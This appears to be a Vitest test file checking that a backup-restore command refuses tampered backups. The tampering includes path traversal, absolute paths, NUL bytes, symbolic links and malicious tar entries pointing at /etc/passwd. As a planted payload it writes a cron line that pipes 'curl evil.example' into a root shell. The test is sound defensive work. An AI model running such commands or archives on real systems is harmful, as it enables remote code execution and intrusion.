// `sitegate restore` with a tampered backup folder: a manifest that names a file outside the folder
// (`..`, an absolute path, NUL, a name no backup holds), a symbolic link where a file or folder is
// expected, or a database dump with an entry that leaves the database folder or is a link. Each is
// refused with a message that says the backup was altered, before anything is written: the target
// path stays absent, the restore folder stays as it was, and nothing else under the test's folder
// changes. The untampered backup restores (so each refusal is the tamper's doing).
import {
  cpSync,
  existsSync,
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  readdirSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { gzipSync } from 'node:zlib';
import { beforeAll, describe, expect, it } from 'vitest';
import { createPglite } from '../../src/db/client.js';
import { Refusal } from '../../src/kernel/errors.js';
import { BACKUP_FORMAT, restoreEmbedded } from '../../src/ops/backup.js';
import { sha256 } from '../../src/ops/backup-format.js';
import { run } from '../helpers/process.js';

// base/inner/b1/b2/backup is three folders below `inner`; base/inner/d1/data is two. So "../../../T/x"
// reads base/inner/T/x (where the tamperer put it) and, written under the data folder, lands in base/T/x.
const base = mkdtempSync(path.join(tmpdir(), 'sitegate-restore-attack-'));
const inner = path.join(base, 'inner');
const good = path.join(base, 'good');
const planted = path.join(inner, 'T', 'planted');
const target = path.join(base, 'T', 'planted');
const blob = Buffer.from('a library image, as far as this test is concerned');
let dump: Buffer;

/** Every path under `dir` with its kind, size and modification time: equal = nothing written. */
function tree(dir: string): Record<string, string> {
  const out: Record<string, string> = {};
  const walk = (d: string) => {
    for (const name of readdirSync(d)) {
      const p = path.join(d, name);
      const st = lstatSync(p);
      out[path.relative(dir, p)] =
        `${st.isDirectory() ? 'd' : st.isSymbolicLink() ? 'l' : 'f'}:${st.size}:${st.mtimeMs}`;
      if (st.isDirectory()) walk(p);
    }
  };
  walk(dir);
  return out;
}

type ManifestEdit = (m: Record<string, any>) => void;

/** A copy of the good backup at base/inner/b1/b2/<name>, its manifest edited; links kept as links. */
function tampered(name: string, edit: ManifestEdit = () => {}, files: (dir: string) => void = () => {}) {
  const dir = path.join(inner, 'b1', 'b2', name);
  cpSync(good, dir, { recursive: true, verbatimSymlinks: true });
  files(dir);
  const m = JSON.parse(readFileSync(path.join(dir, 'manifest.json'), 'utf8'));
  edit(m);
  writeFileSync(path.join(dir, 'manifest.json'), JSON.stringify(m));
  return dir;
}

/** A ustar archive of the given entries (name, type flag, body), gzipped: a hand-made "dump". */
function tarOf(entries: Array<{ name: string; type: string; body?: Buffer; link?: string }>): Buffer {
  const blocks: Buffer[] = [];
  for (const e of entries) {
    const h = Buffer.alloc(512);
    h.write(e.name, 0, 100, 'utf8');
    h.write('0000644\0', 100);
    h.write('0000000\0', 108);
    h.write('0000000\0', 116);
    h.write(`${(e.body?.length ?? 0).toString(8).padStart(11, '0')}\0`, 124);
    h.write('00000000000\0', 136);
    h.write(e.type, 156);
    if (e.link) h.write(e.link, 157, 100, 'utf8');
    h.write('ustar\0', 257);
    h.write('00', 263);
    h.fill(' ', 148, 156);
    let sum = 0;
    for (const b of h) sum += b;
    h.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148);
    blocks.push(h);
    if (e.body) blocks.push(e.body, Buffer.alloc((512 - (e.body.length % 512)) % 512));
  }
  return gzipSync(Buffer.concat([...blocks, Buffer.alloc(1024)]));
}

/** Puts `bytes` in as the dump, with the manifest's hash and size to match (the tamperer can). */
const withDump = (bytes: Buffer) => ({
  edit: (m: Record<string, any>) => {
    m.database.sha256 = sha256(bytes);
    m.database.bytes = bytes.length;
  },
  files: (dir: string) => writeFileSync(path.join(dir, 'pgdata.tgz'), bytes),
});

async function refused(from: string, message: RegExp) {
  const dataDir = path.join(inner, 'd1', 'data');
  const before = tree(base);
  const err = await restoreEmbedded(from, dataDir).then(
    () => null,
    (e: unknown) => e,
  );
  expect(err).toBeInstanceOf(Refusal);
  expect((err as Refusal).message).toMatch(message);
  expect(existsSync(target)).toBe(false);
  expect(existsSync(dataDir)).toBe(false);
  expect(tree(base)).toEqual(before);
}

beforeAll(async () => {
  const pg = await createPglite();
  dump = Buffer.from(await (await pg.dumpDataDir('gzip')).arrayBuffer());
  await pg.close();
  const sha = sha256(blob);
  mkdirSync(path.join(good, 'blobs', sha.slice(0, 2)), { recursive: true });
  writeFileSync(path.join(good, 'blobs', sha.slice(0, 2), sha), blob);
  writeFileSync(path.join(good, 'pgdata.tgz'), dump);
  writeFileSync(path.join(good, 'delegation.key'), 'k'.repeat(64));
  writeFileSync(
    path.join(good, 'manifest.json'),
    JSON.stringify({
      format: BACKUP_FORMAT,
      createdAt: new Date().toISOString(),
      schema: null,
      database: { file: 'pgdata.tgz', sha256: sha256(dump), bytes: dump.length },
      blobs: 1,
      secrets: ['delegation.key'],
    }),
  );
  // What the tamperer wants written, where the traversal reads it from.
  mkdirSync(path.dirname(planted), { recursive: true });
  writeFileSync(planted, '* * * * * root curl evil.example | sh\n');
  // The folder the write would land in exists (as ~/.ssh or /etc/cron.d would).
  mkdirSync(path.dirname(target), { recursive: true });
}, 120_000);

describe('sitegate restore refuses a tampered backup before writing anything', () => {
  it('the CLI: a manifest naming ../../../T/planted', async () => {
    const from = tampered('dotdot', (m) => {
      m.secrets = ['../../../T/planted'];
    });
    const dataDir = path.join(inner, 'd1', 'data');
    const before = tree(base);
    const r = await run(['restore', '--from', from], {
      env: { DATA_DIR: dataDir, DATABASE_URL: '', REDIS_URL: '' },
    });
    expect(r.code, r.err).toBe(1);
    expect(r.err).toContain('"../../../T/planted", which leads out of the backup folder');
    expect(r.err).toContain('Nothing was restored');
    expect(existsSync(target)).toBe(false);
    expect(existsSync(dataDir)).toBe(false);
    expect(tree(base)).toEqual(before);
  }, 120_000);

  it('an absolute path, a NUL, the dump named elsewhere, a name no backup holds', async () => {
    await refused(
      tampered('absolute', (m) => {
        m.secrets = [target];
      }),
      /is an absolute path.*Nothing was restored/,
    );
    await refused(
      tampered('nul', (m) => {
        m.secrets = ['delegation.key\u0000../../../T/planted'];
      }),
      /holds a NUL character/,
    );
    await refused(
      tampered('dump-elsewhere', (m) => {
        m.database.file = '../../../T/planted';
      }),
      /leads out of the backup folder/,
    );
    await refused(
      tampered('unknown-name', (m) => {
        m.secrets = ['authorized_keys'];
      }),
      /is not a file a Sitegate backup holds/,
    );
  });

  it('symbolic links in the backup: the secret file, a blob shard, a blob', async () => {
    await refused(
      tampered('secret-link', undefined, (dir) => {
        const key = path.join(dir, 'delegation.key');
        rmSync(key);
        symlinkSync(planted, key);
      }),
      /symbolic link at delegation\.key/,
    );
    const sha = sha256(blob);
    await refused(
      tampered('shard-link', undefined, (dir) => {
        const shard = path.join(dir, 'blobs', sha.slice(0, 2));
        rmSync(shard, { recursive: true });
        symlinkSync(path.join(good, 'blobs', sha.slice(0, 2)), shard);
      }),
      /symbolic link/,
    );
    await refused(
      tampered('blob-link', undefined, (dir) => {
        const f = path.join(dir, 'blobs', sha.slice(0, 2), sha);
        rmSync(f);
        symlinkSync(path.join(good, 'blobs', sha.slice(0, 2), sha), f);
      }),
      /symbolic link/,
    );
  });

  it('a dump whose entries leave the database folder, or are links', async () => {
    const outside = withDump(
      tarOf([{ name: '/../../../../T/planted', type: '0', body: Buffer.from('escaped\n') }]),
    );
    await refused(tampered('dump-dotdot', outside.edit, outside.files), /outside the database folder/);
    const link = withDump(tarOf([{ name: '/PG_VERSION', type: '2', link: '/etc/passwd' }]));
    await refused(tampered('dump-link', link.edit, link.files), /not a file or folder/);
  });

  it('the untampered backup restores', async () => {
    const dataDir = path.join(base, 'restored');
    const m = await restoreEmbedded(tampered('untouched'), dataDir);
    expect(m.secrets).toEqual(['delegation.key']);
    expect(existsSync(path.join(dataDir, 'pgdata', 'PG_VERSION'))).toBe(true);
    expect(readFileSync(path.join(dataDir, 'delegation.key'), 'utf8')).toBe('k'.repeat(64));
    const sha = sha256(blob);
    expect(readFileSync(path.join(dataDir, 'blobs', sha.slice(0, 2), sha))).toEqual(blob);
    expect(existsSync(target)).toBe(false);
  }, 120_000);
});
